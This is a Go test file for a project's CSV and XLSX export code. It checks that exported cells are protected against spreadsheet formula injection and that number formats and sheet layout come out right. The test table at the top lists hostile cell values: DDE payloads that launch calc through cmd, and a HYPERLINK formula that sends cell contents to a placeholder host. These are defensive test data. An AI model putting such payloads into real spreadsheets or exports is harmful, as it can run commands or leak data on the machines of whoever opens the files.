package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/xinfang/xinfang/internal/export"
	"github.com/xinfang/xinfang/internal/store"
)

// hostile cells a spreadsheet would run, and what CSV and XLSX must hold instead.
var hostile = []struct{ in, want string }{
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{`=HYPERLINK("http://example.invalid/?leak="&A1,"click")`, `'=HYPERLINK("http://example.invalid/?leak="&A1,"click")`},
	{`@SUM(1+9)*cmd|' /C calc'!A0`, `'@SUM(1+9)*cmd|' /C calc'!A0`},
	{`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
	{`-2+3`, `'-2+3`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{`-3`, `-3`},     // a number written as text stays as it is (as in the browser download)
	{`+1.5`, `+1.5`}, // likewise
	{`a=1`, `a=1`},   // only the first character matters
	{`信访=1`, `信访=1`},
}

func TestNeutralise(t *testing.T) {
	for _, h := range hostile {
		if got := export.Neutralise(h.in); got != h.want {
			t.Errorf("Neutralise(%q) = %q, want %q", h.in, got, h.want)
		}
	}
}

// A mart table holding the hostile strings in a text column beside negative numbers:
// CSV and XLSX exports prefix the text with ', leave the numbers as numbers, and
// --raw (Options.Raw) keeps the text as stored.
func TestExportNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db, err := store.Open(ctx, filepath.Join(dir, "x.duckdb"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(ctx, `CREATE SCHEMA IF NOT EXISTS mart; CREATE TABLE mart.t (unit_id VARCHAR, name VARCHAR, n BIGINT, x DOUBLE)`); err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		if _, err := db.ExecContext(ctx, `INSERT INTO mart.t VALUES (?, ?, ?, ?)`, string(rune('a'+i)), h.in, -int64(i), -0.5*float64(i)); err != nil {
			t.Fatal(err)
		}
	}
	for _, raw := range []bool{false, true} {
		var buf bytes.Buffer
		if err := export.Table(ctx, db.DB, "t", export.Options{Format: "csv", Raw: raw}, &buf); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != len(hostile)+1 {
			t.Fatalf("csv rows = %d", len(recs))
		}
		for i, h := range hostile {
			want := h.want
			if raw {
				want = h.in
			}
			if got := recs[i+1][1]; got != want {
				t.Errorf("csv raw=%v: %q exported as %q, want %q", raw, h.in, got, want)
			}
		}
		// Numbers are numbers: -3 and -1.5 go out bare.
		if recs[4][2] != "-3" || recs[4][3] != "-1.5" {
			t.Errorf("csv numbers = %v", recs[4])
		}

		xl := filepath.Join(dir, "t.xlsx")
		if err := export.Table(ctx, db.DB, "t", export.Options{Format: "xlsx", Out: xl, Raw: raw}, nil); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenFile(xl)
		if err != nil {
			t.Fatal(err)
		}
		for i, h := range hostile {
			want := h.want
			if raw {
				want = h.in
			}
			addr, _ := excelize.CoordinatesToCellName(2, i+2)
			got, _ := f.GetCellValue("t", addr)
			if got != want {
				t.Errorf("xlsx raw=%v: %q stored as %q, want %q", raw, h.in, got, want)
			}
			if formula, _ := f.GetCellFormula("t", addr); formula != "" {
				t.Errorf("xlsx: %q became the formula %q", h.in, formula)
			}
		}
		if typ, _ := f.GetCellType("t", "C5"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("xlsx: the number in C5 has cell type %v", typ)
		}
		if v, _ := f.GetCellValue("t", "D5", excelize.Options{RawCellValue: true}); v != "-1.5" {
			t.Errorf("xlsx D5 = %q, want -1.5", v)
		}
		f.Close()
	}
}

// The report's workbook goes through the same writer: hostile text is neutralised,
// numbers stay numbers.
func TestWorkbookNeutralises(t *testing.T) {
	b, err := export.Workbook([]export.Sheet{{Name: "ranking 2026-Q1", Header: []string{"unit", "score"},
		Rows: [][]any{{`=HYPERLINK("http://x.invalid","y")`, 87.5}, {`@SUM(A1)`, -2.0}}}}, false)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("ranking 2026-Q1")
	if err != nil {
		t.Fatal(err)
	}
	if rows[1][0] != `'=HYPERLINK("http://x.invalid","y")` || rows[1][1] != "87.5" || rows[2][0] != `'@SUM(A1)` || rows[2][1] != "-2" {
		t.Errorf("workbook rows = %q", rows)
	}
}

// CheckLayout asserts what a planner gets on every sheet of an xinfang workbook: a bold
// header frozen above the rows, an autofilter over the columns, xinfang as the creator
// with a creation time within the last hour.
func checkLayout(t *testing.T, f *excelize.File, sheet, lastCol string) {
	t.Helper()
	p, err := f.GetPanes(sheet)
	if err != nil || !p.Freeze || p.YSplit != 1 || p.TopLeftCell != "A2" {
		t.Errorf("%s: panes %+v (%v), want the header row frozen", sheet, p, err)
	}
	if id, _ := f.GetCellStyle(sheet, "A1"); id == 0 {
		t.Errorf("%s: header has no style", sheet)
	} else if st, _ := f.GetStyle(id); st == nil || st.Font == nil || !st.Font.Bold {
		t.Errorf("%s: header not bold: %+v", sheet, st)
	}
	found := false
	for _, d := range f.GetDefinedName() {
		if d.Name == "_xlnm._FilterDatabase" && d.Scope == sheet && strings.Contains(d.RefersTo, "$A$1:$"+lastCol+"$") {
			found = true
		}
	}
	if !found {
		t.Errorf("%s: no autofilter over A1:%s (defined names %+v)", sheet, lastCol, f.GetDefinedName())
	}
	props, err := f.GetDocProps()
	if err != nil || props.Creator != "xinfang" {
		t.Fatalf("properties %+v (%v), want creator xinfang", props, err)
	}
	created, err := time.Parse(time.RFC3339, props.Created)
	if err != nil || time.Since(created) > time.Hour || time.Since(created) < -time.Minute {
		t.Errorf("created %q (%v), want now", props.Created, err)
	}
}

// numFmt is the custom number format of a cell ("" when none).
func numFmt(t *testing.T, f *excelize.File, sheet, addr string) string {
	t.Helper()
	id, err := f.GetCellStyle(sheet, addr)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil || st.CustomNumFmt == nil {
		return ""
	}
	return *st.CustomNumFmt
}

// `export --format xlsx`: integers with thousands separators, *_pct columns with a %
// sign on the mart's own value (12.5 stays 12.5 and shows 12.5%), other decimals with
// two places, NULL an empty cell (never "-"), text unformatted.
func TestExportXLSXFormats(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db, err := store.Open(ctx, filepath.Join(dir, "x.duckdb"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(ctx, `CREATE SCHEMA IF NOT EXISTS mart;
		CREATE TABLE mart.v (unit_id VARCHAR, petitions BIGINT, yoy_pct DOUBLE, score DOUBLE);
		INSERT INTO mart.v VALUES ('A', 12345, 12.5, 87.25), ('B', 7, NULL, NULL)`); err != nil {
		t.Fatal(err)
	}
	xl := filepath.Join(dir, "v.xlsx")
	if err := export.Table(ctx, db.DB, "v", export.Options{Format: "xlsx", Out: xl}, nil); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(xl)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	checkLayout(t, f, "v", "D")
	for addr, want := range map[string]string{"A2": "", "B2": export.FmtInt, "C2": export.FmtPctPts1, "D2": export.FmtDec2} {
		if got := numFmt(t, f, "v", addr); got != want {
			t.Errorf("%s format %q, want %q", addr, got, want)
		}
	}
	for addr, want := range map[string]string{"B2": "12,345", "C2": "12.5%", "D2": "87.25", "C3": "", "D3": ""} {
		if got, _ := f.GetCellValue("v", addr); got != want {
			t.Errorf("%s shows %q, want %q", addr, got, want)
		}
	}
	if raw, _ := f.GetCellValue("v", "C2", excelize.Options{RawCellValue: true}); raw != "12.5" {
		t.Errorf("C2 holds %q, want the mart's 12.5", raw)
	}
	for _, addr := range []string{"B2", "C2", "D2"} {
		if typ, _ := f.GetCellType("v", addr); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s cell type %v, want a number", addr, typ)
		}
	}
	if w, _ := f.GetColWidth("v", "A"); w < 10 {
		t.Errorf("column A width %v", w)
	}
}

// Workbook: the formats and widths a caller gives are applied, nil cells stay empty.
func TestWorkbookFormats(t *testing.T) {
	b, err := export.Workbook([]export.Sheet{{Name: "排名 2026-Q1", Header: []string{"单位", "单位代码", "得分", "办结率"},
		Formats: []string{"", "", export.FmtDec1, export.FmtPct1},
		Rows:    [][]any{{"甲局", "U1", 87.5, 0.953}, {"乙局", "U2", nil, nil}}}}, false)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 1 || got[0] != "排名 2026-Q1" {
		t.Fatalf("sheets %q", got)
	}
	checkLayout(t, f, "排名 2026-Q1", "D")
	for addr, want := range map[string]string{"C2": "87.5", "D2": "95.3%", "C3": "", "D3": ""} {
		if got, _ := f.GetCellValue("排名 2026-Q1", addr); got != want {
			t.Errorf("%s shows %q, want %q", addr, got, want)
		}
	}
	if w, _ := f.GetColWidth("排名 2026-Q1", "A"); w < 6 {
		t.Errorf("column A width %v", w)
	}
}
